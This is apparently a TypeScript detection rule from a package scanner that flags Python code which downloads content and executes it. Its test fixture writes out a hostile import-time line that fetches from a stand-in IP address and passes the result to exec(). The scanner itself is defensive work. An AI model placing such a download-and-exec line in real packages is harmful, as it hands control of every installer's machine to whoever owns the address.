/** Code that is fetched and run. */
import { codeWords, fetches, networkWords } from '../python/names.ts';
import { at, type CodeSign } from '../sign.ts';
import { payloadOf } from './decoded-exec.ts';

export const downloadedCode: CodeSign = {
  meta: {
    code: 'downloaded-code',
    summary: 'Runs as code what it has just downloaded',
    strength: 'loud',
    benignRate: 0,
    docs: 'What such a package does is decided by whoever owns the address, on the day it is asked.',
    bad: {
      files: {
        'acme/__init__.py':
          "from urllib.request import urlopen as get\ntext = get('http://203.0.113.9/s').read()\nexec(text)\n",
      },
    },
    good: {
      files: {
        'acme/__init__.py':
          "from urllib.request import urlopen\ndef read(url):\n    return urlopen(url).read()\nexec('x = 1')\n",
      },
    },
  },
  trigger: codeWords,
  alsoTrigger: networkWords,
  *findInCode(source) {
    for (const call of source.calls) {
      const payload = payloadOf(call);
      const reached =
        payload &&
        source.reach(payload, (_, name) => name !== null && fetches.test(name.replace(/\(\)$/, '')));
      if (reached) yield { ...at(call.node), message: `${call.name}() runs what was downloaded` };
    }
  },
};
